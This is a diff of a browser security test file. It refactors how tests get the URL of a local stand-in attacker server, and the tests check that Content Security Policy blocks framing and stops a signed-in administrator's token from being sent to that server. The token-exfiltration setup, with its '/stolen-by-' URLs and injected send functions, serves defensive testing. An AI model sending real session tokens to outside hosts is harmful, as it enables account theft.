@@ -1,7 +1,6 @@
 // Attacks in a real browser: records that are scripts, a frame around our page, and ways to send
 // the token elsewhere. docs/threats.md names each test.
 
-import { once } from 'node:events';
 import http from 'node:http';
 import type { Page } from 'playwright-core';
 import { afterAll, beforeAll, describe, expect, inject, test } from 'vitest';
@@ -13,10 +12,12 @@ import { mapped } from '../support/console/dialects.ts';
 import { json, type TestProxy, startProxy } from '../support/console/proxy.ts';
 import { startServer, type TestServer } from '../support/server/server.ts';
 import { startStaticHost, type StaticHost } from '../support/browser/staticHost.ts';
+import { listen } from '../support/server/ports.ts';
 
 const browser = testBrowser();
 let server: TestServer;
 let token: string;
+let elsewhereUrl: string;
 /** The attacker's host: the requests it received, and how it answers. */
 const requests: string[] = [];
 const elsewhere = http.createServer((request, response) => {
@@ -27,19 +28,13 @@ const elsewhere = http.createServer((request, response) => {
 beforeAll(async () => {
   server = await startServer({ site: createSite(inject('site')) });
   token = await server.signIn(server.users.administrator);
-  await once(elsewhere.listen(0, '127.0.0.1'), 'listening');
+  elsewhereUrl = `http://127.0.0.1:${await listen(elsewhere)}`;
 });
 afterAll(async () => {
   elsewhere.closeAllConnections();
   elsewhere.close();
   await server.stop();
 });
-
-function elsewhereUrl(): string {
-  const address = elsewhere.address();
-  if (!address || typeof address === 'string') throw new Error('The other host has no port');
-  return `http://127.0.0.1:${address.port}`;
-}
 
 async function openSignedIn(path: string, origin = server.url): Promise<Page> {
   const page = await browser.open(origin + path, { token });
@@ -132,7 +127,7 @@ inBrowser('chromium', () =>
 
 test('cannot be framed by another page', async () => {
   browser.expectProblem(/frame-ancestors/);
-  const page = await browser.open(elsewhereUrl());
+  const page = await browser.open(elsewhereUrl);
   await expect.poll(() => page.frames()[1]?.url()).toMatch(/^chrome-error:|^about:neterror\?e=cspBlocked/);
 });
 
@@ -158,7 +153,7 @@ describe('a token that an attacker has in the page', () => {
   test.each(ways)('cannot be sent elsewhere by %s', async (way, send) => {
     browser.expectProblem(/Content.Security.Policy/);
     const page = await openSignedIn('/profile');
-    const url = `${elsewhereUrl()}/stolen-by-${way.replace(' ', '-')}`;
+    const url = `${elsewhereUrl}/stolen-by-${way.replace(' ', '-')}`;
     await page.evaluate(send, url);
     await browser.expectedProblems();
     expect(requests.filter((path) => path.includes('stolen'))).toEqual([]);
